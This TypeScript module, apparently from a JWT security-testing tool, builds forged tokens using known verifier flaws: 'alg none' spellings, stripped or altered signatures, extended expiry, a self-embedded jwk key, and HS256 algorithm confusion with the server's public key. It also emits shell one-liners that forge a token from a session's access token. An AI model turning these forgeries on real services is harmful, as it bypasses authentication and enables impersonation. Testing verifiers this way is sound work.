import { generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import type { ForgeryKind } from '../../../model/forgeries.ts';
import { encoded, type Jwt, signedWith } from './jwt.ts';

/** A token that its server has not issued. */
export interface ForgedToken {
  readonly kind: ForgeryKind;
  readonly variant: string;
  readonly token: string;
  /** A line for the shell that makes it from the token of a session, where one line can. */
  readonly make?: string;
}

/** Verifiers that compare the name in lower case, or only with `none`, accept another spelling (RFC 8725 §3.1, CVE-2015-9235). */
const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

/** Forgeries of a JWT that need no key of the server. The payload keeps its claims, so that only the signature is wrong. */
export function forgedFrom(jwt: Jwt): readonly ForgedToken[] {
  const [header, payload, signature] = jwt.parts;
  return [
    ...NONE_SPELLINGS.flatMap((alg) => unsigned(jwt, alg)),
    {
      kind: 'tampered-payload',
      variant: 'a longer life',
      token: `${header}.${longerLived(jwt)}.${signature}`,
      make: madeBy(`[h, part({ ...json(p), exp: json(p).exp + ${DAY_S} }), s]`),
    },
    {
      kind: 'tampered-payload',
      variant: 'a changed signature',
      token: `${header}.${payload}.${changed(signature)}`,
      make: madeBy(`[h, p, (s[0] === "A" ? "B" : "A") + s.slice(1)]`),
    },
    {
      kind: 'stripped-signature',
      variant: 'an empty signature',
      token: `${header}.${payload}.`,
      make: 'FORGED_TOKEN="${ACCESS_TOKEN%.*}."',
    },
    {
      kind: 'stripped-signature',
      variant: 'two parts',
      token: `${header}.${payload}`,
      make: 'FORGED_TOKEN="${ACCESS_TOKEN%.*}"',
    },
    embeddedKey(jwt),
  ];
}

function unsigned({ header, parts: [, payload, signature] }: Jwt, alg: string): readonly ForgedToken[] {
  const first = encoded({ ...header, alg });
  return [
    {
      kind: 'alg-none',
      variant: `alg "${alg}" without a signature`,
      token: `${first}.${payload}.`,
      make: madeBy(`[part({ ...json(h), alg: "${alg}" }), p, ""]`),
    },
    {
      kind: 'alg-none',
      variant: `alg "${alg}" with the old signature`,
      token: `${first}.${payload}.${signature}`,
      make: madeBy(`[part({ ...json(h), alg: "${alg}" }), p, s]`),
    },
  ];
}

/** A line for the shell that makes the parts of a token from those of a session: header, payload and signature. */
const madeBy = (parts: string): string =>
  `FORGED_TOKEN=$(node -p 'const [h, p, s] = process.argv[1].split("."); const json = (t) => JSON.parse(Buffer.from(t, "base64url")); const part = (v) => Buffer.from(JSON.stringify(v)).toString("base64url"); ${parts}.join(".")' "$ACCESS_TOKEN")`;

const DAY_S = 86_400;

function longerLived({ payload }: Jwt): string {
  const { exp } = payload;
  return encoded({ ...payload, exp: (typeof exp === 'number' ? exp : Math.round(Date.now() / 1_000)) + DAY_S });
}

/** Another first character of the signature. Its last one may hold unused bits, whose change a decoder ignores. */
const changed = (signature: string): string => `${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`;

/** A token that brings the key that verifies it (`jwk`, RFC 7515 §4.1.3). */
function embeddedKey({ header, parts: [, payload] }: Jwt): ForgedToken {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const { kid: _kid, ...rest } = header;
  const first = encoded({ ...rest, alg: 'ES256', jwk: { ...publicKey.export({ format: 'jwk' }), alg: 'ES256' } });
  const signature = sign('sha256', Buffer.from(`${first}.${payload}`), { key: privateKey, dsaEncoding: 'ieee-p1363' });
  return {
    kind: 'embedded-key',
    variant: 'signed by a key in its own header (jwk)',
    token: `${first}.${payload}.${signature.toString('base64url')}`,
  };
}

/**
 * The public key of the server as the secret of an HMAC (RFC 8725 §3.1): a verifier that takes the algorithm from the token
 * and the key from its configuration accepts it. The text of the key must be the one that the server holds.
 */
export function confused({ header, parts: [, payload] }: Jwt, key: KeyObject): readonly ForgedToken[] {
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const secrets = [
    ['the PEM of the public key', pem],
    ['the PEM without its last line break', pem.trimEnd()],
  ] as const;
  return secrets.map(([variant, secret]) => {
    const signed = `${encoded({ ...header, alg: 'HS256' })}.${payload}`;
    return { kind: 'algorithm-confusion', variant, token: `${signed}.${signedWith(signed, secret, 'HS256')}` };
  });
}
